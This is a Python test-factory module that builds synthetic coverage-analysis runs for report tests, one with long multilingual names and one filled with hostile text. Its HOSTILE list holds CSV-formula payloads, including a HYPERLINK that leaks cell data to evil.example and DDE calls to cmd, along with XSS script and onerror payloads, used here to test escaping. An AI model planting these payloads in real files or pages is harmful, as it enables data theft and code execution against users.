"""Runs built by seeded code for the report and table tests, without the engine.

``many_districts`` is the study a print test needs: dozens of sub-districts with long
Chinese and English names (one a single unbreakable word), long facility names and a
category with six tiers, whose tables do not fit a portrait page. ``hostile`` puts text
that would run as script or formula into every name a run carries. Walking times are
straight-line distances to the nearest facility at walking speed, so every figure is
computed by circle15's own analysis functions from a known truth.
"""

from __future__ import annotations

from dataclasses import replace

import geopandas as gpd
import numpy as np
import pandas as pd
from shapely.geometry import box

from circle15.analysis import district_table, gap_areas, tier_labels
from circle15.analysis.gaps import cells_form_coverage
from circle15.result import CoverageResult
from circle15.standards import load_standards

CRS = "EPSG:32651"
X0, Y0 = 360_000.0, 3_310_000.0
CELL_M = 200.0

#: Names a careless or malicious file may hold: formulas (OWASP CSV injection), script,
#: a comment opener and control characters pasted from Word.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=3+4",
    "<script>window.__pwned=1</script>",
    "</script><script>window.__pwned=2</script>",
    "<!--",
    '<img src=x onerror="window.__pwned=3">',
    "名称\x0b换行\x0c页",
    "\"'><svg onload=window.__pwned=4>",
]


def _grid(cols: int, rows: int) -> gpd.GeoDataFrame:
    ij = np.array([(i, j) for j in range(rows) for i in range(cols)], dtype=float)
    geoms = [
        box(X0 + i * CELL_M, Y0 + j * CELL_M, X0 + (i + 1) * CELL_M, Y0 + (j + 1) * CELL_M)
        for i, j in ij
    ]
    return gpd.GeoDataFrame({"i": ij[:, 0], "j": ij[:, 1]}, geometry=geoms, crs=CRS)


def build(
    *,
    zones_x: int,
    zones_y: int,
    cells_per_zone: int,
    names: list[str],
    names_en: list[str],
    categories: dict,
    facility_names: list[str],
    seed: int,
    title: str,
    notice: str = "synthetic: built by tests/factories/report_studies.py",
    facilities_per_category: int = 12,
) -> CoverageResult:
    """A run on a grid of ``zones_x`` × ``zones_y`` square sub-districts."""
    rng = np.random.default_rng(seed)
    cols, rows = zones_x * cells_per_zone, zones_y * cells_per_zone
    cells = _grid(cols, rows)
    zone_of = (
        (cells["j"] // cells_per_zone * zones_x + cells["i"] // cells_per_zone)
        .astype(int)
        .to_numpy()
    )
    n_zones = zones_x * zones_y
    side = cells_per_zone * CELL_M
    zones = gpd.GeoDataFrame(
        {"district": names[:n_zones], "name_en": names_en[:n_zones]},
        geometry=[
            box(
                X0 + (z % zones_x) * side,
                Y0 + (z // zones_x) * side,
                X0 + (z % zones_x + 1) * side,
                Y0 + (z // zones_x + 1) * side,
            )
            for z in range(n_zones)
        ],
        crs=CRS,
    )
    centres = np.column_stack([cells.geometry.centroid.x, cells.geometry.centroid.y])
    frame = {
        "cell_id": [f"c{k:05d}" for k in range(len(cells))],
        "district": np.array(names, dtype=object)[zone_of],
        "pop_total": rng.integers(0, 400, len(cells)).astype(float),
        "snapped": rng.random(len(cells)) > 0.01,
    }
    facilities = []
    for c, (key, cat) in enumerate(categories.items()):
        sites = np.column_stack(
            [
                rng.uniform(X0, X0 + cols * CELL_M, facilities_per_category),
                rng.uniform(Y0, Y0 + rows * CELL_M, facilities_per_category),
            ]
        )
        ids = np.array([f"{key[:2].upper()}{k:03d}" for k in range(len(sites))], dtype=object)
        d = np.hypot(*(centres[:, None, :] - sites[None, :, :]).transpose(2, 0, 1))
        nearest = d.argmin(axis=1)
        minutes = d.min(axis=1) * 1.3 / cat.metres_per_minute  # detour factor 1.3
        minutes[~frame["snapped"]] = np.nan
        minutes[zone_of == n_zones - 1] = np.nan  # the last sub-district: no route at all
        frame[f"pop_{key}"] = np.round(frame["pop_total"] * rng.uniform(0.02, 0.2), 1)
        frame[f"t_{key}"] = minutes
        frame[f"nearest_{key}"] = np.where(np.isnan(minutes), None, ids[nearest])
        frame[f"tier_{key}"] = tier_labels(minutes, cat.tiers_min)
        facilities.append(
            gpd.GeoDataFrame(
                {
                    "category": key,
                    "facility_id": ids,
                    "name": [
                        facility_names[(c + k) % len(facility_names)] for k in range(len(ids))
                    ],
                    "capacity": rng.integers(20, 200, len(ids)).astype(float),
                    "snapped": True,
                    "snap_m": 10.0,
                    "provenance": "synthetic",
                    "district": None,
                },
                geometry=gpd.points_from_xy(sites[:, 0], sites[:, 1]),
                crs=CRS,
            )
        )
    grid = gpd.GeoDataFrame(frame, geometry=cells.geometry.to_numpy(), crs=CRS)
    fac = gpd.GeoDataFrame(pd.concat(facilities, ignore_index=True), crs=CRS)
    fac["district"] = gpd.sjoin(fac[["geometry"]], zones, how="left", predicate="within")[
        "district"
    ].to_numpy()
    table = district_table(grid, categories, list(zones["district"]))
    lookup = dict(zip(fac["facility_id"], fac["name"], strict=True))
    tiles = cells_form_coverage(grid.geometry.to_numpy())
    gaps = [gap_areas(grid, cat, lookup, cells_form_coverage=tiles) for cat in categories.values()]
    gaps = gpd.GeoDataFrame(pd.concat([g for g in gaps if len(g)], ignore_index=True), crs=CRS)
    return CoverageResult(
        name="printtest",
        title=title,
        categories=categories,
        cells=grid,
        districts=table,
        gaps=gaps,
        facilities=fac,
        zones=zones,
        area=zones.union_all(),
        synthetic=True,
        notice=notice,
        diagnostics={"warnings": []},
        parameters={},
    )


def many_districts(n_x: int = 8, n_y: int = 5, seed: int = 15) -> CoverageResult:
    """40 sub-districts with long names, a category with six tiers, long facility names."""
    standards = load_standards().categories
    six = replace(standards["kindergarten"], tiers_min=(3.0, 6.0, 9.0, 12.0, 15.0, 20.0))
    categories = {
        "childcare": standards["childcare"],
        "kindergarten": six,
        "elderly_canteen": standards["elderly_canteen"],
    }
    n = n_x * n_y
    names = [f"第{k + 1}号街道办事处（含经济技术开发区管理委员会托管片区）" for k in range(n)]
    names_en = [
        f"Subdistrict Number {k + 1} with the Economic and Technological "
        "Development Zone Administered Area"
        for k in range(n)
    ]
    names_en[3] = "Supercalifragilisticexpialidocious" * 2  # one word, no place to break
    names[5] = "Ａ" * 40  # forty full-width letters
    facility_names = [
        f"镇海区第{k}公办幼儿园（总园）暨社区嵌入式托育服务中心（分园）" for k in range(7)
    ] + ["X" * 60]
    return build(
        zones_x=n_x,
        zones_y=n_y,
        cells_per_zone=5,
        names=names,
        names_en=names_en,
        categories=categories,
        facility_names=facility_names,
        seed=seed,
        title="长名称测试区 A study with many sub-districts and long names (synthetic)",
    )


def hostile(seed: int = 13) -> CoverageResult:
    """A small run whose every name, title and notice is hostile text."""
    standards = load_standards().categories
    categories = {
        "childcare": replace(standards["childcare"], name_zh=HOSTILE[6], name_en=HOSTILE[0]),
        "elderly_canteen": replace(
            standards["elderly_canteen"],
            name_zh=HOSTILE[7],
            name_en=HOSTILE[9],
            capacity_unit=HOSTILE[1],
        ),
    }
    names = HOSTILE[:6]
    names_en = HOSTILE[6:12]
    result = build(
        zones_x=3,
        zones_y=2,
        cells_per_zone=3,
        names=names,
        names_en=names_en,
        categories=categories,
        facility_names=HOSTILE,
        seed=seed,
        title=HOSTILE[6] + " " + HOSTILE[0],
        notice=HOSTILE[7] + HOSTILE[8],
        facilities_per_category=len(HOSTILE),
    )
    result.diagnostics = {
        "warnings": list(HOSTILE),
        "population_method": {"text": HOSTILE[9], "source": HOSTILE[0]},
        "unsnapped_facilities": {"childcare": [HOSTILE[6]]},
    }
    result.facilities["地址"] = [HOSTILE[k % len(HOSTILE)] for k in range(len(result.facilities))]
    result.facilities[HOSTILE[2]] = HOSTILE[3]  # a planner's column named like a formula
    return result
